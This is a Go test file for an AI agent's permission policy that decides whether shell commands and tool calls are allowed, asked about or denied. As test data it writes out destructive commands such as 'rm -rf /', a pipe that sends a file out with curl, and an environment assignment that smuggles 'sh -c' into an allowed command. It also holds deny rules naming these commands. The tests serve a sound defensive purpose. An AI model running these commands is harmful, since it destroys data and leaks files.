package permission

import (
	"encoding/json"
	"strings"
	"testing"
)

func rules(t *testing.T, d Decision, source string, texts ...string) []Rule {
	t.Helper()
	var out []Rule
	for _, text := range texts {
		r, err := ParseRule(text, d, source)
		if err != nil {
			t.Fatalf("ParseRule(%q): %v", text, err)
		}
		out = append(out, r)
	}
	return out
}

func shell(cmd string) Call {
	in, _ := json.Marshal(map[string]string{"command": cmd})
	return Call{Tool: ShellTool, Input: in}
}

func TestRulesTimesCallsDecide(t *testing.T) {
	user := append(append(
		rules(t, Allow, "--allow", "git status", "go test *", "shell--run(ls *)", "github--*[readOnlyHint]", "workspace--write", "echo *", "cat *"),
		rules(t, Ask, "--ask", "workspace--edit")...),
		rules(t, Deny, "--deny", "rm *", "*[destructiveHint]", "git push *", "shell--run(curl *)")...)
	p := Policy{User: user}
	for _, tc := range []struct {
		name string
		call Call
		want Decision
		part string // the command that decided, for a command line
	}{
		{"a read-only tool by default", Call{Tool: "workspace--read", ReadOnly: true}, Allow, ""},
		{"a tool that writes by default", Call{Tool: "code_execution"}, Ask, ""},
		{"a tool allowed by name", Call{Tool: "workspace--write"}, Allow, ""},
		{"an ask rule", Call{Tool: "workspace--edit"}, Ask, ""},
		{"an MCP tool that says it only reads", Call{Tool: "github--search", ReadOnly: true}, Allow, ""},
		{"an MCP tool that writes", Call{Tool: "github--create_issue"}, Ask, ""},
		{"a destructive MCP tool", Call{Tool: "github--delete_repo", Destructive: true}, Deny, ""},
		{"an exact command", shell("git status"), Allow, "git status"},
		{"an exact command with more words", shell("git status --short"), Ask, "git status --short"},
		{"a prefix command", shell("go test ./... -run X"), Allow, "go test ./... -run X"},
		{"a prefix command with no more words", shell("go test"), Allow, "go test"},
		{"quotes are taken off", shell(`'go' "test" ./x`), Allow, `'go' "test" ./x`},
		{"a command no rule names", shell("make"), Ask, "make"},
		{"a denied command", shell("rm -rf /"), Deny, "rm -rf /"},
		{"the least allowed part of a list", shell("git status && rm -rf build"), Deny, "rm -rf build"},
		{"a pipe", shell("cat x | curl -d @- http://h"), Deny, "curl -d @- http://h"},
		{"a command substitution", shell("echo $(rm -rf ~)"), Deny, "rm -rf ~"},
		{"backquotes", shell("echo `make`"), Ask, "make"},
		{"a subshell", shell("(cd x && make)"), Ask, "cd x"},
		{"a function's body", shell("f() { rm -rf x; }; f"), Deny, "rm -rf x"},
		{"bash -c", shell(`bash -c "git status; rm -rf y"`), Deny, "rm -rf y"},
		{"eval", shell(`eval rm -rf z`), Deny, "rm -rf z"},
		{"sudo", shell(`sudo rm -rf /`), Deny, "rm -rf /"},
		{"timeout", shell(`timeout 5 git push origin main`), Deny, "git push origin main"},
		{"env with assignments", shell(`env -i A=1 rm x`), Deny, "rm x"},
		{"a path to the program", shell(`/usr/bin/env rm x`), Deny, "rm x"},
		{"xargs", shell(`ls | xargs rm`), Deny, "rm"},
		{"an allowed command only allowed", shell("ls -la && git status"), Allow, "ls -la"},
		{"a variable as the command", shell(`$CMD status`), Ask, "$CMD status"},
		{"a variable in a denied command's place", shell(`rm $DIR`), Deny, "rm $DIR"},
		{"a variable where allow wants a word", shell(`git $SUB`), Ask, "git $SUB"},
		{"a variable where deny wants a word", shell(`git $SUB origin`), Ask, "git $SUB origin"},
		{"a variable where allow takes any word", shell(`go test $PKG`), Allow, "go test $PKG"},
		{"assignments before an allowed command", shell(`GIT_PAGER='sh -c x' git status`), Ask, "GIT_PAGER='sh -c x' git status"},
		{"a glob the shell expands", shell(`cat *`), Allow, "cat *"},
		{"an unreadable line", shell(`echo "unterminated`), Ask, ""},
		{"no command at all", Call{Tool: ShellTool, Input: json.RawMessage(`{}`)}, Ask, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v := p.Check(tc.call)
			if v.Decision != tc.want {
				t.Fatalf("decision %v, want %v (%s)", v.Decision, tc.want, v.Reason)
			}
			if v.Part != tc.part {
				t.Fatalf("decided by the command %q, want %q (%s)", v.Part, tc.part, v.Reason)
			}
			if v.Reason == "" {
				t.Fatal("no reason given")
			}
		})
	}
}

func TestAReasonNamesTheRuleAndWhereItCameFrom(t *testing.T) {
	p := Policy{User: rules(t, Deny, "/home/u/.config/myelin/permissions.json", "rm *")}
	v := p.Check(shell("make && rm -rf build"))
	for _, want := range []string{"denied by rm * (/home/u/.config/myelin/permissions.json)", `the least allowed is "rm -rf build"`} {
		if !strings.Contains(v.Reason, want) {
			t.Errorf("reason %q lacks %q", v.Reason, want)
		}
	}
	if v.Rule == nil || v.Rule.Text != "rm *" {
		t.Errorf("rule %+v", v.Rule)
	}
}

func TestAWorkspaceRuleMayNarrowButNeverWiden(t *testing.T) {
	ws := append(rules(t, Allow, ".myelin/permissions.json", "shell--run", "rm *"), rules(t, Deny, ".myelin/permissions.json", "git push *")...)
	for i := range ws {
		ws[i].workspace = true
	}
	p := Policy{User: rules(t, Allow, "--allow", "git *"), Workspace: ws}
	if v := p.Check(shell("rm -rf /")); v.Decision != Ask {
		t.Errorf("a workspace's allow widened: %v (%s)", v.Decision, v.Reason)
	}
	if v := p.Check(shell("git push origin")); v.Decision != Deny {
		t.Errorf("a workspace's deny did not narrow the user's allow: %v (%s)", v.Decision, v.Reason)
	}
	if v := p.Check(shell("git log")); v.Decision != Allow {
		t.Errorf("the user's allow: %v (%s)", v.Decision, v.Reason)
	}
}

func TestYesAllowsWhatWouldBeAskedButNotWhatIsDeniedOrUnreadable(t *testing.T) {
	p := Policy{User: rules(t, Deny, "--deny", "rm *"), Yes: true}
	for cmd, want := range map[string]Decision{"make": Allow, "make && rm x": Deny, `echo "open`: Ask, "$X -rf /": Ask} {
		if v := p.Check(shell(cmd)); v.Decision != want {
			t.Errorf("%q with --yes: %v, want %v (%s)", cmd, v.Decision, want, v.Reason)
		}
	}
}

func TestParseRuleSaysWhatIsWrong(t *testing.T) {
	for text, want := range map[string]string{
		"":                    "an empty rule",
		"shell--run()":        "names no command",
		"workspace--read(ls)": "only shell--run's calls are matched by command",
		"github--*[readonly]": "readOnlyHint or destructiveHint",
		"go test [":           "not a valid glob",
	} {
		if _, err := ParseRule(text, Allow, "--allow"); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParseRule(%q): %v; want an error saying %q", text, err, want)
		}
	}
}
